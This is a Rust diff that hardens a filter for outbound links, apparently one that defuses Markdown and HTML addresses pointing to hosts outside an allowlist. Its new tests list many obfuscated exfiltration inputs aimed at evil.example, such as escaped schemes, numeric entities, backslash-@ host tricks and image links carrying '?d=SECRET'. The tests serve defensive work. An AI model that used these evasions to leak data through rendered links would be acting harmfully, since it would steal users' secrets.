@@ -69,16 +69,41 @@ impl Place {
 }
 
 impl Links {
-    /// Whether an address leads out, and to no place that is allowed. What has no host leads nowhere.
+    /// Whether an address leads out, and to no place that is allowed, for any who might read it. What has no host
+    /// leads nowhere.
     fn is_foreign(&self, address: &str) -> bool {
-        // As browsers read it: white space and control characters go, entities and escapes are what they stand for.
-        let plain: String = unescaped(address).chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
+        let html = unescaped(address, Syntax::Html);
+        let markdown = unescaped(address, Syntax::Markdown);
+        // Some decode entities first, so that they may make a backslash one that goes.
+        let both = html.as_deref().and_then(|html| unescaped(html, Syntax::Markdown));
+        let unescaped = [markdown, both].into_iter().flatten().any(|plain| self.is_foreign_as_it_is(&plain, true));
+        unescaped
+            || self.is_foreign_as_it_is(html.as_deref().unwrap_or(address), false)
+            || self.is_foreign_as_it_is(address, false)
+    }
+
+    /// The same of an address without entities, and without escapes if they are `gone`.
+    fn is_foreign_as_it_is(&self, address: &str, gone: bool) -> bool {
+        // As browsers read it, and whoever trims it first: white space and control characters go.
+        let plain: String =
+            address.chars().filter(|c| !c.is_control() && !c.is_whitespace() && *c != '\u{feff}').collect();
         let slashes: String = plain.chars().take(2).map(|c| if c == '\\' { '/' } else { c }).collect();
         let whole = if slashes == "//" { format!("https://{}", plain.get(2..).unwrap_or_default()) } else { plain };
-        let Some((scheme, _)) = whole.split_once(':').filter(|(scheme, _)| is_scheme(scheme)) else { return false };
+        let Some((scheme, rest)) = whole.split_once(':') else { return false };
+        if !is_scheme(scheme) {
+            // Browsers take it for a path; others may take off what is too much.
+            let named = !scheme.is_empty() && !scheme.contains(['/', '\\', '?', '#']);
+            return named && rest.replace('\\', "/").starts_with("//");
+        }
         match scheme.to_ascii_lowercase().as_str() {
             "mailto" | "tel" | "data" | "cid" | "urn" => false,
-            _ => !Url::parse(&whole).is_ok_and(|url| self.places.iter().any(|place| place.has(&url))),
+            _ => {
+                // In the name of a host nobody writes these, and readers differ in what they make of them.
+                let authority = rest.trim_start_matches(['/', '\\']).split(['/', '?', '#']).next().unwrap_or_default();
+                authority.contains('&')
+                    || (gone && authority.contains('\\'))
+                    || !Url::parse(&whole).is_ok_and(|url| self.places.iter().any(|place| place.has(&url)))
+            }
         }
     }
 
@@ -132,7 +157,7 @@ impl Links {
         let none = (None, text);
         let Some(opener) = text.get(1..2).filter(|next| matches!(*next, "(" | ":")) else { return none };
         let Some(behind) = text.get(2..) else { return none };
-        let start = behind.trim_start();
+        let start = within_quotes(behind);
         let (address, left) = match start.strip_prefix('<') {
             Some(inner) => inner.split_once('>').unwrap_or((inner, "")),
             None => start.split_at_checked(end_of(start)).unwrap_or((start, "")),
@@ -177,8 +202,15 @@ impl Links {
         ) {
             return true;
         }
-        let plain: String = unescaped(inside).chars().filter(|c| !c.is_control()).collect();
-        let plain = plain.replace('\\', "/");
+        let plain = unescaped(inside, Syntax::Html).unwrap_or_else(|| inside.to_owned());
+        let plain: String = plain.chars().filter(|c| !c.is_control()).collect();
+        // Not every client is a browser: to some a backslash is none.
+        let markdown = unescaped(&plain, Syntax::Markdown).is_some_and(|plain| self.has_foreign(&plain));
+        markdown || self.has_foreign(&plain.replace('\\', "/"))
+    }
+
+    /// Whether there is an address that leads out within the text of a tag.
+    fn has_foreign(&self, plain: &str) -> bool {
         // Wherever there are two slashes an address begins, if a scheme or nothing stands before them.
         let addressed = plain.match_indices("//").any(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
@@ -207,7 +239,12 @@ impl Links {
 
     /// Whether a text to be sent has an address that leads to no allowed place.
     pub fn leads_out(&self, text: &str) -> bool {
-        let plain = text.replace('\\', "/");
+        unescaped(text, Syntax::Html).is_some_and(|plain| self.names_foreign(&plain.replace('\\', "/")))
+            || unescaped(text, Syntax::Markdown).is_some_and(|plain| self.names_foreign(&plain))
+            || self.names_foreign(&text.replace('\\', "/"))
+    }
+
+    fn names_foreign(&self, plain: &str) -> bool {
         let addresses = plain.match_indices("//").map(|(at, _)| {
             let before = plain.get(..at).unwrap_or_default();
             let begins = before.rfind(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '+' | '-' | '.' | ':'));
@@ -222,6 +259,9 @@ impl Links {
         });
         let mut foreign = addresses.filter(|address| {
             let scheme = address.split("//").next().unwrap_or_default();
+            // What stands before it and begins no scheme does not belong to it, as in `1.https://`.
+            let begins = scheme.find(|c: char| c.is_ascii_alphabetic());
+            let address = begins.and_then(|begins| address.get(begins..)).unwrap_or_default();
             scheme.ends_with(':') && self.is_foreign(address.trim_end_matches(['.', ',', ';', '!', '?']))
         });
         foreign.next().is_some()
@@ -310,45 +350,91 @@ fn end_of(text: &str) -> usize {
     text.len()
 }
 
-/// Entities and backslashes as what they stand for.
-fn unescaped(text: &str) -> String {
+/// What follows, without white space, and on a further line without the marks of the quotes that it is in.
+fn within_quotes(text: &str) -> &str {
+    let start = text.trim_start();
+    let space = text.get(..text.len() - start.len()).unwrap_or_default();
+    match space.contains(['\n', '\r']) {
+        true => start.trim_start_matches(|c: char| c == '>' || c.is_whitespace()),
+        false => start,
+    }
+}
+
+/// Who reads an address.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Syntax {
+    /// The number of an entity ends wherever it ends.
+    Html,
+    /// It ends with a semicolon, and a backslash before punctuation is none.
+    Markdown,
+}
+
+/// Entities and backslashes as what they stand for; `None` if there is nothing of that kind.
+fn unescaped(text: &str, syntax: Syntax) -> Option<String> {
+    let markdown = syntax == Syntax::Markdown;
+    if !(text.contains('&') || markdown && text.contains('\\')) {
+        return None;
+    }
     let mut out = String::with_capacity(text.len());
     let mut rest = text;
-    while let Some((before, after)) = rest.split_once('&') {
+    while let Some(at) = rest.find(|c| c == '&' || markdown && c == '\\') {
+        let (before, from) = rest.split_at_checked(at).unwrap_or((rest, ""));
         out.push_str(before);
-        let length = after.bytes().take(10).take_while(|b| b.is_ascii_alphanumeric() || *b == b'#').count();
-        let (name, left) = after.split_at_checked(length).unwrap_or((after, ""));
-        let left = left.strip_prefix(';').unwrap_or(left);
-        let code = |radix: u32, digits: &str| u32::from_str_radix(digits, radix).ok().and_then(char::from_u32);
-        let found = match name.strip_prefix('#') {
-            Some(digits) => match digits.strip_prefix(['x', 'X']) {
-                Some(digits) => code(16, digits),
-                None => code(10, digits),
-            },
-            None => match name {
-                "colon" => Some(':'),
-                "sol" => Some('/'),
-                "bsol" => Some('\\'),
-                "period" => Some('.'),
-                "Tab" | "NewLine" => Some(' '),
-                "quot" => Some('"'),
-                "apos" => Some('\''),
-                _ => None,
-            },
+        // One byte either way.
+        let (mark, after) = from.split_at_checked(1).unwrap_or((from, ""));
+        let found = match mark {
+            "&" => entity(after).filter(|(_, _, closed)| *closed || !markdown).map(|(c, left, _)| (c, left)),
+            _ => after.chars().next().filter(char::is_ascii_punctuation).zip(after.get(1..)),
         };
         match found {
-            Some(character) => {
+            Some((character, left)) => {
                 out.push(character);
                 rest = left;
             }
             None => {
-                out.push('&');
+                out.push_str(mark);
                 rest = after;
             }
         }
     }
     out.push_str(rest);
-    out
+    Some(out)
+}
+
+/// What an entity stands for, what follows it, and whether a semicolon ends it; begins behind the ampersand.
+fn entity(text: &str) -> Option<(char, &str, bool)> {
+    let (length, number) = match text.strip_prefix('#') {
+        // However many zeros there are.
+        Some(number) => match number.strip_prefix(['x', 'X']) {
+            Some(digits) => (2 + digits.bytes().take_while(u8::is_ascii_hexdigit).count(), Some(16)),
+            None => (1 + number.bytes().take_while(u8::is_ascii_digit).count(), Some(10)),
+        },
+        None => (text.bytes().take(10).take_while(u8::is_ascii_alphanumeric).count(), None),
+    };
+    let (name, left) = text.split_at_checked(length)?;
+    let (left, closed) = left.strip_prefix(';').map_or((left, false), |left| (left, true));
+    let character = match number {
+        Some(radix) => {
+            let digits = name.trim_start_matches(['#', 'x', 'X']);
+            if digits.is_empty() {
+                return None;
+            }
+            let code = u32::from_str_radix(digits, radix).ok().and_then(char::from_u32);
+            code.unwrap_or(char::REPLACEMENT_CHARACTER)
+        }
+        None => match name {
+            "colon" => ':',
+            "sol" => '/',
+            "bsol" => '\\',
+            "period" => '.',
+            "Tab" | "NewLine" => ' ',
+            "quot" => '"',
+            "apos" => '\'',
+            _ => return None,
+        },
+    };
+    // Of the names above only this one needs no semicolon.
+    (closed || number.is_some() || name == "quot").then_some((character, left, closed))
 }
 
 #[cfg(test)]
@@ -407,6 +493,69 @@ mod tests {
     }
 
     #[test]
+    fn what_clients_take_for_an_address_is_one_however_it_is_escaped() {
+        let links = links(&["https://*.example.com/", "https://example.org/docs/"]);
+        for (text, made) in [
+            ("![a](https\\://evil.example/?d=SECRET)", "![a] (`https\\://evil.example/?d=SECRET`)"),
+            ("![a](https:\\/\\/evil.example)", "![a] (`https:\\/\\/evil.example`)"),
+            ("![a](\\/\\/evil.example)", "![a] (`\\/\\/evil.example`)"),
+            ("![a](https\\&#58;//evil.example)", "![a] (`https\\&#58;//evil.example`)"),
+            ("[a](https://www.example.com\\@evil.example/)", "[a] (`https://www.example.com\\@evil.example/`)"),
+            ("[a](https://evil.example\\.www.example.com/)", "[a] (`https://evil.example\\.www.example.com/`)"),
+            ("[a](https://evil.example\\x.example.com/)", "[a] (`https://evil.example\\x.example.com/`)"),
+            ("[a](<https://www.example.com\\>@evil.example/>)", "[a] (`https://www.example.com\\`@evil.example/>)"),
+            ("[a](1https://evil.example)", "[a] (`1https://evil.example`)"),
+            ("[a](\u{feff}https://evil.example)", "[a] (`\u{feff}https://evil.example`)"),
+            ("> [1]:\n> https://evil.example", "> [1] :`https://evil.example`"),
+            ("> > [1]:\r\n> > <https://evil.example>", "> > [1] :`https://evil.example`"),
+            ("> ![a](\n> https://evil.example)", "> ![a] (`https://evil.example`)"),
+            (
+                "![a](https&#00000000000058;&#00000000000047;&#x0000000000002F;evil.example)",
+                "![a] (`https&#00000000000058;&#00000000000047;&#x0000000000002F;evil.example`)",
+            ),
+            ("<img src=https&#00000000000058;//evil.example>", "‹img src=https&#00000000000058;//evil.example›"),
+            (
+                "<a href='https://www.example.com\\@evil.example/'>",
+                "‹a href='https://www.example.com\\@evil.example/'›",
+            ),
+            // To Markdown without a semicolon, and so to browsers afterwards, this is a part of the name.
+            ("![a](https://www.example.com&sol.evil.example/)", "![a] (`https://www.example.com&sol.evil.example/`)"),
+            ("![a](https://www.example.com&#47.evil.example/)", "![a] (`https://www.example.com&#47.evil.example/`)"),
+            // A name that is none of those that are known here.
+            ("![a](https://evil.example&num;.example.com/)", "![a] (`https://evil.example&num;.example.com/`)"),
+        ] {
+            let defused = links.defused(text);
+            assert_eq!(defused.as_deref(), Some(made), "{text}");
+            assert_eq!(links.defused(made), None, "{made}");
+        }
+        for text in [
+            "[a](https://www.example.com/a\\_b\\(c\\)?d=e&amp;f=g&h=i)",
+            "[a](https:\\/\\/www.example.com\\/x)",
+            "[2024]: 12:30:00 and [INFO]: 2024-03-02T10:00",
+            "[a]: > https",
+            "> [1]:\n> page.md",
+            "[a](dir/a:b//c)",
+            "<a href=\"https://www.example.com/x?a=1&amp;b=2&copy=3\" title=\"&quot;https://www.example.com/&quot;\">",
+        ] {
+            assert_eq!(links.defused(text), None, "{text}");
+        }
+        for text in [
+            "![a](https\\://evil.example/?d=SECRET)",
+            "[a](https://www.example.com\\@evil.example/)",
+            "https&#00000000000058;&#00000000000047;/evil.example",
+            "> [1]:\n> https://evil.example",
+            "1.https://evil.example",
+        ] {
+            assert!(links.leads_out(text), "{text}");
+        }
+        for text in
+            ["1.https://www.example.com/", "https?:\\/\\/", "12:30://", "{\"u\":\"https:\\/\\/www.example.com\"}"]
+        {
+            assert!(!links.leads_out(text), "{text}");
+        }
+    }
+
+    #[test]
     fn blocks_that_are_links_become_text_and_everything_else_stays() {
         let links = links(&["https://*.example.com/"]);
         let text = r#"{"content":[{"type":"resource_link","uri":"https://evil.example/x","name":"report"},{"type":"text","text":"1.50"}],"structuredContent":{"n":1.50,"t":"![](https://evil.example/)"}}"#;
@@ -442,7 +591,7 @@ mod tests {
         fn defusing_twice_is_defusing_once(parts in proptest::collection::vec(prop_oneof![
             Just("]("), Just("]:"), Just("["), Just("!["), Just(")"), Just("<"), Just(">"), Just("img src="), Just("`"),
             Just("https://evil.example/"), Just("//evil"), Just("https:"), Just(" "), Just("\n"), Just("a"), Just("\""),
-            Just("\\"), Just("&#58;"), Just("‹"), Just("script"), Just("(")], 0..24)) {
+            Just("\\"), Just("&#58;"), Just("&#0000000000047;"), Just("\n> "), Just("@"), Just("‹"), Just("script"), Just("(")], 0..24)) {
             let (text, links) = (parts.concat(), links(&["https://*.example.com/"]));
             if let Some(once) = links.defused(&text) {
                 prop_assert_eq!(links.defused(&once), None, "{} -> {}", text, once);
